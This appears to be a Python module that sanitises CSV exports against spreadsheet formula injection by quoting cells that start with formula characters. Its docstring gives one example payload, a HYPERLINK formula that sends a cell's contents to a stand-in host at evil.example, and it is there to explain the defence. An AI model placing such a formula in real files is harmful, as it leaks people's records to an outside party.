"""Every CSV trim writes goes through here, so no export can carry a spreadsheet formula.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets when the file is opened: a supervisor's
incident summary `=HYPERLINK("https://evil.example/?"&A2, "Open")` would otherwise turn
the person's own record into a link that sends their answers away. Such a text cell is
written with a leading `'` (the OWASP advice); numbers trim computed are written as they
are, since a number cannot be a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The text of one CSV cell, with a leading `'` when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """Rows (the first is the header) as CSV text, every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
